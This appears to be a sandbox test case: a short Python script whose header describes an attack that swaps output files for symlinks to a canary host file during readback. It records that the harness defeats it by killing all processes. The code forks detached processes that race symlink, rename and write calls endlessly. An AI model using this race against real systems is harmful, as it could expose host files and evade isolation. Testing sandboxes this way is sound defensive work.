# attack: exchanging a file for a link to the machine's file while it is read back
# held by: nothing inside lives any more when files are read back
# kind: files
# outcome: exited
import os

for _ in range(4):
    if os.fork() == 0:
        os.setsid()
        while True:
            name = "/work/%d.out" % os.getpid()
            for way in (lambda: os.symlink("@CANARY@", name + "x"), lambda: os.rename(name + "x", name), lambda: os.unlink(name),
                        lambda: open(name, "w").write("mine"), lambda: os.rename(name, name + "x")):
                try:
                    way()
                except OSError:
                    pass
